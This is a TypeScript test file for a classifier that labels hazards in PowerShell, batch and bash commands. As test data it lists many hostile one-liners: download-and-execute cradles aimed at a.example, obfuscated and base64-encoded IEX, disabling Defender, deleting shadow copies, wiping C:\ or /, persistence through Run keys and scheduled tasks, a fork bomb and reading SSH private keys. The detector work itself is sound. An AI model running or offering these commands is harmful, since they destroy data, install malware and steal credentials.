import assert from 'node:assert/strict';
import { test } from 'node:test';
import { expectHazards, seen } from './seen.ts';

const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

expectHazards(
  [
    ['Remove-Item -Recurse -Force C:\\', 'deletes deletes-around deletes-everything'],
    ['Remove-Item -Recurse build', 'deletes deletes-around'],
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')",
      'dynamic fetches-file runs-download',
    ],
    [
      "I`E`X (New-Object Net.WebClient).DownloadString('http://a.example/x')",
      'dynamic fetches-file runs-download',
    ],
    ['iwr http://a.example/x | iex', 'dynamic fetches-file runs-download'],
    ["&('I'+'EX') 'whoami'", 'dynamic'],
    ["& ('{1}{0}' -f 'EX','I') $x", 'dynamic'],
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'disables-protection'],
    ['Stop-Computer', 'stops-machine'],
    ['Format-Volume -DriveLetter C', 'writes-disk'],
    ['New-LocalUser x', 'changes-accounts'],
    ['Get-ChildItem env:', 'shows-environment'],
    ['Write-Host hello', ''],
    ['Get-ChildItem . | Sort-Object Name', ''],
    ['python train.py', ''],
    ['Invoke-Strange -Thing', 'not-understood'],
    [
      'param(\n[parameter(Mandatory=$true)]\n[string]$Name,\n[switch]$Force = $false\n)\nWrite-Host $Name',
      '',
    ],
    ['$file = $PSScriptRoot + "\\\\client.p12"\n$url = $args[0]\nnode $file $args', ''],
    ['$n = $items.Count - 1', ''],
    // A value that is a call.
    ['$x = $shell.Run($line)', 'not-understood'],
    ['$x = "$(Invoke-Strange)"', 'not-understood'],
    ['$x = [Strange]::Run($line)', 'not-understood'],
    ['$x = & $line', 'not-understood'],
    ['. $line', 'not-understood'],
    ['[string]$x = [scriptblock]::Create($line).Invoke()', 'dynamic'],
    ['[ValidateScript({ Invoke-Strange })]$x', 'not-understood'],
  ],
  'powershell',
);

expectHazards(
  [
    ['del /s /q C:\\*', 'deletes-around deletes-everything'],
    ['rd /s /q C:\\Windows', 'deletes-around deletes-everything'],
    ['r^d /s /q C:\\Windows', 'deletes-around deletes-everything'],
    ['rmdir /s /q build', 'deletes-around'],
    ['format c: /y', 'writes-disk'],
    ['vssadmin delete shadows /all /quiet', 'destroys-data'],
    [
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe',
      'persistence system-settings',
    ],
    ['certutil -urlcache -split -f http://a.example/x.exe x.exe', 'fetches-file'],
    ['mshta http://a.example/x.hta', 'hidden-command runs-download'],
    ['rundll32 x.dll,Run', 'hidden-command'],
    ['schtasks /create /tn x /tr x.exe /sc minute', 'persistence'],
    ['net user x y /add', 'changes-accounts'],
    ['%0|%0', 'fork-bomb'],
    ['shutdown /s /t 0', 'stops-machine'],
    ['@echo off', ''],
    ['dir & type notes.txt', ''],
    ['strange.exe /x', 'not-understood'],
  ],
  'batch',
);

test('an encoded command is decoded and judged', async () => {
  const script = `powershell -NoP -enc ${encode("IEX (iwr 'http://a.example')")}`;
  const { hazards } = await seen(script);
  assert.ok(hazards.includes('shell-runs-decoded'));
  assert.ok(hazards.includes('shell-runs-download'));
});

test('words of Windows in a text whose dialect is not known are told, and bash is read all the same', async () => {
  const { hazards } = await seen('del /s /q C:\\* & rm -rf /');
  assert.ok(hazards.includes('shell-deletes-everything'));
});

test('bash is not taken for PowerShell', async () => {
  const { hazards } = await seen('if [ -e /usr/share/x ]; then rmdir --ignore-fail-on-non-empty out; fi');
  assert.deepEqual(hazards, ['shell-deletes']);
});

test('a shell that is not bash is read, and told as not understood', async () => {
  assert.deepEqual((await seen('rm -rf /', 'fish')).hazards, [
    'shell-deletes-everything',
    'shell-not-understood',
  ]);
  assert.deepEqual((await seen('rm -rf /', 'zsh')).hazards, ['shell-deletes-everything']);
});

// Names that are put together from variables (help set), and PowerShell inside of a batch file.
expectHazards(
  [
    ['set a=for\nset b=mat\n%a%%b% d: /y', 'writes-disk'],
    ['set a=xformaty\n%a:~1,6% d: /y', 'writes-disk'],
    ['p^ower^shell -c "iex(irm http://a.example/x)"', 'dynamic fetches-file runs-download'],
    ['set BUILD=build\nmkdir %BUILD%', ''],
  ],
  'batch',
);
expectHazards(
  [
    [
      'Get-ChildItem C:\\Users -Recurse | Remove-Item -Recurse -Force',
      'deletes deletes-around deletes-everything',
    ],
    ['Get-ChildItem .\\logs | Remove-Item', 'deletes deletes-around'],
    [
      "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example/a.dll'))",
      'dynamic fetches-file runs-download',
    ],
  ],
  'powershell',
);

// What was fetched and is started, on one line or on two.
expectHazards(
  [
    ['curl -so %TEMP%\\a.exe http://a.example/a.exe\nstart %TEMP%\\a.exe', 'not-understood runs-download'],
    ['curl -so data.csv http://a.example/data.csv\npython report.py data.csv', 'not-understood'],
    ['curl -s http://a.example/x.bat | cmd', 'runs-download'],
    ['cmd /v:on /c "set y=format& set z= D: /y& !y!!z!"', 'writes-disk'],
    ['for /d %%d in (C:\\Users\\*) do rd /s /q "%%d"', 'deletes-around deletes-everything'],
    ['type %USERPROFILE%\\.ssh\\id_rsa', 'reads-credentials'],
  ],
  'batch',
);
expectHazards(
  [
    [
      'Invoke-WebRequest http://a.example/a.exe -OutFile a.exe; Start-Process .\\a.exe',
      'fetches-file runs-download',
    ],
    ['Invoke-WebRequest https://a.example/a.csv -OutFile a.csv\nImport-Csv a.csv', 'fetches-file'],
    [
      "$a='Remove-'; $b='Item'; & \"$a$b\" -Recurse -Force C:\\Users",
      'deletes deletes-around deletes-everything',
    ],
  ],
  'powershell',
);
